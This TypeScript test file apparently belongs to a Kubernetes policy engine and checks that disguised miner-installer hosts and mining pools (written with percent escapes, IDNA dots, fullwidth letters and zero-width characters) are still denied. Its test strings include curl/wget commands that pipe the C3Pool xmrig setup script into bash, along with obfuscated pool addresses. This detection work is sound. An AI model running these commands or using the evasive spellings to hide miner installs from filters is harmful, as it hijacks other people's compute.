// Hosts spelt so that a string match misses them but curl, wget, Python or Node look up the
// listed host: percent escapes in a URL's host, IDNA's other dots (`。` `．` `｡`), fullwidth and
// compatibility letters, soft hyphens and zero-width characters. What each tool does was checked
// against curl 7.88.1 (libidn2 2.3.3) and GNU wget 1.21.3 on Debian 12, and Node's and Python's
// resolvers (docs/detection.md, "Host spellings"). A spelling every tool refuses needs no rule.
import { domainToASCII } from 'node:url'
import fc from 'fast-check'
import t from 'tap'
import { FOLD_COST, hostsAsResolved, mayHaveRespeltHosts, mayMapIntoAsciiHost, READ_COST, RUN_COST } from '../../src/detect/host-spellings.ts'
import { BUDGET_REFUSAL } from '../../src/detect/review-budget.ts'
import { compileSignalScanner, type ScannedText, type Signal } from '../../src/detect/signals.ts'
import { evaluate } from '../../src/engine/evaluate.ts'
import type { V1Container } from '../../src/workloads/kubernetes.ts'
import { fuzzRuns } from '../helpers/fuzz.ts'
import { minerSignals } from '../helpers/miner-signals.ts'
import { defaultPolicies } from '../helpers/server.ts'
import { defaultSignalData } from '../helpers/signal-data.ts'

const policySet = await defaultPolicies()
const signalData = await defaultSignalData()
const gated = compileSignalScanner(signalData)
const ungated = compileSignalScanner(signalData, { ungated: true })

const findings = (container: Partial<V1Container>) => minerSignals(policySet, container)

const SETUP = '/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh'
const RELEASE = '/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz'

t.test('an installer host spelt with escapes or IDNA characters curl and wget resolve is still a listed installer', async (t) => {
  for (const command of [
    `curl -sL https://raw%2egithubusercontent%2ecom${SETUP} | bash -s worker1`,
    `curl -sL raw%2Egithubusercontent.com${SETUP} | bash`,
    `curl -sL https://r%61w.githubusercontent.com${SETUP} | bash`,
    `curl -sL https://raw.githubusercontent%E3%80%82com${SETUP} | bash`,
    `curl -sL https://raw.githubusercontent\u3002com${SETUP} | bash`,
    `wget -qO- https://raw.githubusercontent\uff0ecom${SETUP} | bash`,
    `curl -sL https://raw.githubusercontent\uff61com${SETUP} | bash`,
    `curl -sL https://\uff52\uff41\uff57\uff0e\uff47\uff49\uff54\uff48\uff55\uff42\uff55\uff53\uff45\uff52\uff43\uff4f\uff4e\uff54\uff45\uff4e\uff54\uff0e\uff43\uff4f\uff4d${SETUP} | bash`,
    `wget https://git\u00adhub.com${RELEASE}`,
    `wget https://gi\u200dthub.com${RELEASE}`,
    `curl -LO https://git\u200bhub\u3002com${RELEASE}`,
    `curl -LO https://\u{1d420}ithub.com${RELEASE}`,
    `curl -LO https://GIT\uff28UB%2eCOM${RELEASE}`,
  ]) {
    const found = findings({ command: ['sh', '-c', command] })
    t.equal(found[0]?.action, 'deny', `${JSON.stringify(command)}: ${JSON.stringify(found)}`)
    t.match(found[0]?.message, /downloads a miner installer from/, JSON.stringify(command))
  }
})

t.test('a pool spelt with IDNA characters is the pool a Node or Python miner looks up', async (t) => {
  for (const host of [
    'pool.supportxmr\u3002com',
    'pool.supportxmr\uff0ecom',
    'pool.\uff53\uff55\uff50\uff50\uff4f\uff52\uff54xmr.com',
    'pool.support\u00adxmr.com',
  ]) {
    const found = findings({ command: ['/opt/svc', '-o', `${host}:443`, '-u', 'worker1'] })
    t.equal(found[0]?.action, 'deny', `${JSON.stringify(host)}: ${JSON.stringify(found)}`)
    t.match(found[0]?.message, /\(IDN-mapped\): mining pool "pool\.supportxmr\.com"/, JSON.stringify(host))
  }
})

const LOLMINER = '/Lolliedieb/lolMiner-releases/releases/download/1.88/lolMiner_v1.88_Lin64.tar.gz'

t.test("dots and a hyphen Python's idna codec (IDNA 2003, NFKC) reads and UTS #46 refuses still name the listed host", async (t) => {
  // python3.11 -c "print('github\u2024com'.encode('idna'))" gives b'github.com'; urllib looks hosts up so.
  // U+1806 MONGOLIAN TODO SOFT HYPHEN is mapped to nothing by IDNA 2003 (Node refuses it).
  for (const host of ['github\u2024com', 'github\ufe52com', 'git\u1806hub.com']) {
    const script = `import urllib.request as u;u.urlretrieve('https://${host}${LOLMINER}','/opt/l.tgz')`
    const found = findings({ command: ['python3', '-c', script] })
    t.equal(found[0]?.action, 'deny', `${JSON.stringify(host)}: ${JSON.stringify(found)}`)
  }
  const found = findings({ command: ['python3', '/opt/miner.py', '-o', 'pool.supportxmr\ufe52com:443', '-u', 'worker1'] })
  t.match(found[0]?.message, /\(IDN-mapped\): mining pool "pool\.supportxmr\.com"/, JSON.stringify(found))
  // `⒈` is `1.` to it.
  t.equal(hostsAsResolved('-o xmr-eu\u2488nanopool.org:14433'), '-o xmr-eu1.nanopool.org:14433')
})

t.test('a host after one slash (`https:/host`, which curl 7.88.1 accepts) is a host, not a path segment', async (t) => {
  for (const url of [`https:/github.com${LOLMINER}`, `https:/github\u3002com${LOLMINER}`, `https:/github%2ecom${LOLMINER}`]) {
    const found = findings({ command: ['sh', '-c', `curl -sLO ${url} && tar xzf lolMiner_v1.88_Lin64.tar.gz`] })
    t.equal(found[0]?.action, 'deny', `${JSON.stringify(url)}: ${JSON.stringify(found)}`)
    t.match(found[0]?.message, /downloads a miner installer from "github\.com\/Lolliedieb/, JSON.stringify(url))
  }
  t.equal(hostsAsResolved('curl http:/ｌocalhost。x/y'), 'curl http:/localhost.x/y')
  t.equal(hostsAsResolved('cat /srv/ｌocalhost。x/y'), 'cat /srv/ｌocalhost。x/y', 'after a lone slash it is a path segment')
})

t.test('a run longer than any DNS name is no host and stays as written', async (t) => {
  // 253 characters is the longest name: a run past it, however it is made up, is not looked up.
  for (const run of ['a.\u3002'.repeat(200), `${'a'.repeat(600)}\u3002b`, `${'\uff41'.repeat(600)}\u3002b`]) {
    t.equal(hostsAsResolved(`curl https://${run}/x`), `curl https://${run}/x`, `${run.slice(0, 12)}… (${run.length} units)`)
  }
})

t.test('a decoded slash, and escapes a miner does not decode, need no rule and add nothing', async (t) => {
  // curl: "URL using bad/illegal format" (a decoded `/` is no host character).
  t.same(findings({ command: ['sh', '-c', `curl -sL https://raw.githubusercontent.com%2fC3Pool/xmrig_setup/x.sh -o x.sh`] }), [])
  t.equal(hostsAsResolved(`curl https://raw.githubusercontent.com%2fC3Pool/x`, true), `curl https://raw.githubusercontent.com%2fC3Pool/x`)
  t.equal(hostsAsResolved('curl https://github%2ecom%ff/x', true), 'curl https://github%2ecom%ff/x', 'an escape that is no UTF-8 leaves the host as written')
  // A miner resolves the name as written: `%2e` is no dot to it, and the stratum URL is what counts.
  t.same(findings({ command: ['/opt/svc', '-o', 'pool.supportxmr%2ecom:443', '-u', 'worker1'] }), [])
})

t.test('prose and hosts in other scripts are admitted: only what maps to a listed host counts', async (t) => {
  t.same(
    findings({
      env: [{ name: 'MESSAGE', value: '設定を読み込みました。サーバーを起動します。詳細は https://例え.jp/ja/docs を参照。' }],
      command: ['/app/server', '--greeting=\uff28\uff45\uff4c\uff4c\uff4f\uff0e', '--docs=https://ドメイン名例。jp/'],
    }),
    [],
  )
  t.same(findings({ command: ['sh', '-c', 'curl -s "https://api.example.com/search?q=%E3%81%82%2ecom&limit=10" -o /srv/result.json'] }), [])
})

t.test('every code point UTS #46 maps into an ASCII host is read as Node reads it', async (t) => {
  let mapped = 0
  const differing: string[] = []
  for (let code = 0x80; code <= 0x10ffff; code++) {
    if (code >= 0xd800 && code <= 0xdfff) continue
    const character = String.fromCodePoint(code)
    const host = `a${character}b.example.com`
    const looked = domainToASCII(host)
    // Refused, a real IDN label, or mapped to what no host holds (`⑴` to `(1)`): no listed host.
    if (looked === '' || looked.includes('xn--') || !/^[a-z0-9.-]+$/.test(looked)) continue
    mapped++
    if (hostsAsResolved(`curl https://${host}/x`) !== `curl https://${looked}/x`) differing.push(code.toString(16))
    if (!mayHaveRespeltHosts(host)) differing.push(`gate ${code.toString(16)}`)
  }
  t.ok(mapped > 1000, `${mapped} code points map into ASCII`)
  t.same(differing, [])
})

t.test('a Latin-1 character the gate turns away changes no host', async (t) => {
  for (let code = 0x80; code <= 0xff; code++) {
    const host = `curl https://a${String.fromCharCode(code)}b.example.com/x`
    if (!mayHaveRespeltHosts(host)) t.equal(hostsAsResolved(host), host, code.toString(16))
  }
})

const piece = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 6 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 3 }) },
  {
    weight: 6,
    arbitrary: fc.constantFrom(
      'pool.supportxmr',
      'raw.githubusercontent',
      '\u3002com',
      '\uff0e',
      '\uff61',
      '.com',
      '\u00ad',
      '\u00aa',
      '\u00e9',
      '\u200d',
      '\uff53',
      '%2e',
      '%E3%80%82',
      '/',
      '//',
      ' ',
      ':3333',
      '\u{1d420}',
    ),
  },
)

t.test('over random texts, a closed gate means no host is respelt, and the gated scanner finds what the ungated one finds', async (t) => {
  const text = fc.array(piece, { maxLength: 10 }).map((pieces) => pieces.join(''))
  t.doesNotThrow(() =>
    fc.assert(
      fc.property(text, (given) => mayHaveRespeltHosts(given) || hostsAsResolved(given) === given),
      { seed: 20261202, numRuns: fuzzRuns(2000) },
    ),
  )
  const signals = (scan: typeof gated, given: string[]) => {
    const found: Signal[] = []
    scan(
      given.map((text, index): ScannedText => ({ field: `args[${index}]`, text })),
      found,
    )
    return JSON.stringify(found)
  }
  t.doesNotThrow(() =>
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 3 }), (given) => signals(gated, given) === signals(ungated, given)),
      { seed: 20261202, numRuns: fuzzRuns(1000) },
    ),
  )
})

t.test('the ranges of characters that may fold into an ASCII host hold every one NFKC folds so', async (t) => {
  const missing: string[] = []
  for (let code = 0x80; code <= 0x10ffff; code++) {
    if (code >= 0xd800 && code <= 0xdfff) continue
    const folded = String.fromCodePoint(code).normalize('NFKC').toLowerCase()
    if (/^[a-z0-9.-]+$/.test(folded) && !mayMapIntoAsciiHost(code)) missing.push(code.toString(16))
  }
  t.same(missing, [])
})

t.test('a pod of many short hosts to respell is refused for the cost of reading them', async (t) => {
  // Each within the budget by its length (scanned and respelt copies together under 4 Mi characters).
  for (const [unit, count] of [
    ['\uff41\u3002\uff42 ', 200_000],
    ['a\u3002b ', 400_000],
    ['a%2eb ', 400_000],
    ['a\u00adb.c ', 300_000],
    ['a\u2024b ', 200_000],
  ] as const) {
    const found = findings({ args: [unit.repeat(count)] })
    t.equal(found[0]?.action, 'deny', JSON.stringify(unit))
    t.match(found[0]?.message, BUDGET_REFUSAL, JSON.stringify(unit))
  }
})

t.test('every run read is charged before it is read: a respelt one more, a folded one more again', async (t) => {
  const charged = (text: string, percent = false) => {
    let total = 0
    hostsAsResolved(text, percent, (characters) => {
      total += characters
    })
    return total
  }
  t.equal(charged('ж x a\u3002b a\u00adb.c \uff41\u3002\uff42'), 4 * RUN_COST + 3 * READ_COST + FOLD_COST)
  t.equal(charged('x%2f a%2eb', true), 2 * (RUN_COST + READ_COST))
  t.equal(charged('/a\u3002b plain.ascii.text'), 0, 'a path segment and ASCII runs are not read')
})

t.test('a ConfigMap of short hosts with IDNA dots or soft hyphens is refused for the cost of respelling them; IDN hosts cost nothing', async (t) => {
  const configMap = (text: string) =>
    evaluate({ object: { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'c', namespace: 'ns' }, data: { 'hosts.txt': text } } }, policySet).findings
  // Each `a。b` is read once more as `a.b`: no NFKC, but a respelt copy to build and scan (136 ms per MiB before).
  for (const unit of ['a\u3002b ', 'a\u00adb.c ', 'a\uff0eb\u200b.c ']) {
    const found = configMap(unit.repeat(Math.ceil((1 << 20) / unit.length)))
    t.equal(found[0]?.action, 'deny', JSON.stringify(unit))
    t.match(found[0]?.message, BUDGET_REFUSAL, JSON.stringify(unit))
  }
  // A real IDN host is looked up as written: nothing is respelt, nothing charged beyond reading it.
  t.same(configMap('m\u00fcller.example.de\n'.repeat(40_000)), [])
  t.same(configMap('\u4f8b\u3048.jp \u0441\u0430\u0439\u0442.\u0440\u0444\n'.repeat(40_000)), [])
})

t.test('ẞ is read as ss, as curl with libidn2 2.3.3 looks it up (Unicode 16 tables keep ß)', async (t) => {
  t.equal(hostsAsResolved('curl -s http://cla\u1e9e.example/x'), 'curl -s http://class.example/x')
})

t.test('a character NFKC folds into a dot (U+2024, ⒈, ㏂) is read as NFKC reads it, as Python looks it up', async (t) => {
  const folding: string[] = []
  for (let code = 0x80; code <= 0x10ffff; code++) {
    if ((code >= 0xd800 && code <= 0xdfff) || code === 0x3002 || code === 0xff0e || code === 0xff61) continue
    const character = String.fromCodePoint(code)
    const folded = character.normalize('NFKC').toLowerCase()
    if (!folded.includes('.')) continue
    folding.push(code.toString(16))
    // Read as written where the fold holds what no host holds (`⒈` is `1.`, `㏂` is `a.m.`, `…` is `...`).
    const expected = /^[a-z0-9.-]+$/.test(folded) ? `raw.github${folded}usercontent.com` : `raw.github${character}usercontent.com`
    t.equal(hostsAsResolved(`curl https://raw.github${character}usercontent.com/x`), `curl https://${expected}/x`, code.toString(16))
  }
  t.ok(folding.length > 20, `${folding.length} such characters`)
})
